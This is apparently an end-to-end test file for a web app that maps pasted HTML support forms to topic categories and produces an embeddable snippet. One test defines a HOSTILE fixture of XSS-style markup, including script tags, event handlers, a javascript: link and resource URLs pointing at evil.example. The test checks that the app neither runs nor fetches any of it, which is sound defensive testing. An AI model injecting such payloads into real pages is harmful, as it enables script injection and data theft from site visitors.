/**
 * The page "Your form": pasted forms, proposed options, the live form, and its snippet on another
 * host.
 */
import { atNight, casesByDay } from '../setup/nightly.ts';
import type { Server } from 'node:http';
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { listen, portOf } from '../../config/serve-app.ts';
import { useStage } from '../setup/shared-harness.ts';
import { watchErrors, visitOnline } from './app-fixtures.ts';
import { axeProblemsInBothThemes } from './axe.ts';
import { eventually } from './eventually.ts';
import { quiet, watchTimers } from './quiet.ts';
import { BILLING } from './widget-page.ts';

const stage = useStage();
let shop: Server;
let html = '';
let sent: URLSearchParams | null = null;
beforeAll(async () => {
  shop = await listen((request, response) => {
    let body = '';
    request.on('data', (chunk) => {
      body += String(chunk);
    });
    request.on('end', () => {
      if (request.method === 'POST') sent = new URLSearchParams(body);
      response.setHeader('content-type', 'text/html');
      response.end(request.method === 'POST' ? '<title>sent</title>Thank you' : html);
    });
  }, 0);
});
afterAll(() => {
  shop.close();
  shop.closeAllConnections();
});

const FORM = `<form action="/send" method="post"><label for="m">How can we help?</label>
<textarea id="m" name="m"></textarea>
<fieldset><legend>What is it about?</legend>
<label><input type="radio" name="about" value="1"> Delivery</label>
<label><input type="radio" name="about" value="2"> Invoices and refunds</label>
<label><input type="radio" name="about" value="3"> Login and password</label>
<label><input type="radio" name="about" value="4"> Appointments</label></fieldset>
<button>Send</button></form>`;

async function openForm(paste: string) {
  const { context, page } = await visitOnline(stage);
  const errors = watchErrors(page);
  await page.goto(`${stage.appUrl}/#/form`);
  await page.getByLabel('HTML of the form').fill(paste);
  await page.locator('section[aria-labelledby$="-category"][aria-busy="false"]').waitFor();
  return { page, errors, close: () => context.close() };
}

/** Which option every label goes to, as the page shows it. */
function mapping(page: Page): Promise<Record<string, string>> {
  return page
    .getByRole('region', { name: 'Topics', exact: true })
    .locator('.line')
    .evaluateAll((lines) =>
      Object.fromEntries(
        lines.map((line) => [
          line.querySelector('label')?.textContent.trim(),
          line.querySelector('select')?.selectedOptions[0]?.text,
        ]),
      ),
    );
}

/** The whole form with marks and tag, as the page copies it. */
async function copied(page: Page): Promise<string> {
  await page.context().grantPermissions(['clipboard-read', 'clipboard-write']);
  await page.getByLabel('It lies at this address').check();
  await page.getByRole('button', { name: 'Copy the whole form' }).click();
  return page.evaluate(() => navigator.clipboard.readText());
}

/** The fields that a page of another host posts after a customer has written a ticket there. */
async function postedFrom(snippet: string, text: string, area: string): Promise<URLSearchParams> {
  html = `<!doctype html><html lang="en"><title>t</title><link rel="icon" href="data:,"><body>${snippet}`;
  sent = null;
  const context = await stage.browser.newContext();
  const page = await context.newPage();
  await watchTimers(page);
  await page.goto(`http://localhost:${portOf(shop)}/help/contact/`);
  await page.locator(area).fill(text);
  await page.locator('presort-suggest [part~="chip"]').first().waitFor();
  await quiet(page);
  await page.evaluate(() => {
    document.querySelector('form')?.requestSubmit();
  });
  await eventually(() => sent !== null).toBe(true);
  await context.close();
  return sent ?? new URLSearchParams();
}

describe('your form', () => {
  it('proposes by meaning, shows the form with the widget, and its snippet sets and posts on another host', async () => {
    const { page, errors, close } = await openForm(FORM);
    expect(await mapping(page)).toEqual({
      'Account Management': 'Login and password',
      'Billing Inquiry': 'Invoices and refunds',
      'Bug Report': 'no option',
      'Feature Request': 'no option',
      'Technical Issue': 'no option',
    });
    await page.getByText('The model does not know “Delivery” and “Appointments”').waitFor();
    await page.locator('.live textarea').fill(BILLING);
    await eventually(() => page.locator('.live input[value="2"]').isChecked()).toBe(true);
    await eventually(() => page.locator('.posted').innerText()).toContain('presort_choice');
    const snippet = await copied(page);
    const posted = await postedFrom(snippet, BILLING, '#m');
    expect(posted.get('about')).toBe('2');
    expect(posted.get('presort_choice')).toBe('Billing Inquiry');
    expect(posted.get('presort_option')).toBe('2');
    expect(errors).toEqual([]);
    await close();
  });

  atNight(
    'takes a list of topics and what is changed by hand, several labels to one option',
    async () => {
      const { page, close } = await openForm('Delivery\nMoney matters\nEverything technical');
      for (const label of ['Bug Report', 'Technical Issue', 'Feature Request'])
        await page.getByLabel(label, { exact: true }).selectOption('Everything technical');
      await page.getByLabel('Billing Inquiry', { exact: true }).selectOption('Money matters');
      await page.getByLabel('Account Management', { exact: true }).selectOption('no option');
      const snippet = await copied(page);
      expect(snippet).toContain(
        '<option data-presort="Bug Report | Feature Request | Technical Issue">Everything technical</option>',
      );
      const posted = await postedFrom(
        snippet,
        'The export crashes with an error message as soon as I click download.',
        '#description',
      );
      expect(posted.get('topic')).toBe('Everything technical');
      await close();
    },
  );

  atNight('reads a form in another language of the model by that language', async () => {
    const { page, close } = await openForm(
      '<html lang="de"><textarea name="n"></textarea><select name="t"><option value="">Bitte wählen</option>\
<option>Lieferung</option><option>Rechnungen und Zahlungen</option><option>Passwort und Anmeldung</option></select>',
    );
    expect(await page.getByLabel('Language of the page').inputValue()).toBe('de');
    expect(await mapping(page)).toMatchObject({
      'Billing Inquiry': 'Rechnungen und Zahlungen',
      'Account Management': 'Passwort und Anmeldung',
    });
    await page
      .locator('.live textarea')
      .fill('Sie haben mein Konto zweimal belastet, ich möchte eine Rechnung und das Geld zurück.');
    await page.locator('.live presort-suggest').getByText('Worum geht es?').waitFor();
    await close();
  });

  it('runs and fetches nothing of what is pasted', async () => {
    const { page, errors, close } = await openForm(
      '<textarea name=a></textarea><select name=b><option>x<option>y</select>',
    );
    const asked: string[] = [];
    page.on('request', (request) => asked.push(request.url()));
    await page.getByLabel('HTML of the form').fill(HOSTILE);
    await page.locator('.live').getByText('Still a form').waitFor();
    await page.locator('.live button').first().click();
    await quiet(page);
    expect(asked.filter((url) => /evil|stolen/.test(url))).toEqual([]);
    expect(await page.evaluate(() => Reflect.get(window, 'stolen') as unknown)).toBeUndefined();
    expect(page.url()).toBe(`${stage.appUrl}/#/form`);
    expect(
      await page
        .locator('.live')
        .evaluate((live) =>
          [...(live.shadowRoot?.querySelectorAll('*') ?? [])].flatMap((node) =>
            node.localName === 'presort-suggest'
              ? []
              : Element.prototype.getAttributeNames
                  .call(node)
                  .filter((name) => /^on|src|href|style|action/.test(name)),
          ),
        ),
    ).toEqual([]);
    expect(errors).toEqual([]);
    await close();
  });

  it.each(
    casesByDay(
      [
        ['a phone', { width: 390, height: 844 }],
        ['a narrow phone', { width: 320, height: 640 }],
        ['a desk', { width: 1280, height: 800 }],
      ],
      1,
    ),
  )('on %s axe finds nothing and nothing scrolls sideways', async (name, viewport) => {
    const { context, page } = await visitOnline(stage, { viewport, reducedMotion: 'reduce' });
    await page.goto(`${stage.appUrl}/#/form`);
    await page.getByRole('button', { name: 'Take an example' }).click();
    await page.locator('.live textarea').fill(BILLING);
    await page.locator('presort-suggest [part~="chip"]').first().waitFor();
    expect(await axeProblemsInBothThemes(page)).toEqual([]);
    expect(
      await page.evaluate(
        () => document.documentElement.scrollWidth - document.documentElement.clientWidth,
      ),
    ).toBe(0);
    const shots = process.env['PRESORT_SHOTS'];
    if (shots)
      for (const colorScheme of ['dark', 'light'] as const) {
        await page.emulateMedia({ colorScheme });
        await page.screenshot({ path: `${shots}/form-${name}-${colorScheme}.png`, fullPage: true });
      }
    await context.close();
  });
});

const HOSTILE = `<form action="https://evil.example/" id="__proto__" onsubmit="window.stolen=1">
<script>window.stolen = 1</script><img src="https://evil.example/stolen.png" onerror="window.stolen=1">
<style>@import "https://evil.example/stolen.css";</style><link rel=stylesheet href="https://evil.example/stolen.css">
<iframe srcdoc="<script>parent.stolen=1</script>"></iframe><svg onload="window.stolen=1"></svg>
<p>Still a form</p><a href="javascript:window.stolen=1">link</a>
<input name="attributes"><input name="submit"><input type="image" src="https://evil.example/stolen.gif">
<textarea name="text" style="background:url(https://evil.example/stolen.png)" onfocus="window.stolen=1" \
autofocus></textarea>
<select name="topic"><option>Refund</option><option>Delivery</option></select>
<button formaction="https://evil.example/stolen">Send</button></form>`;
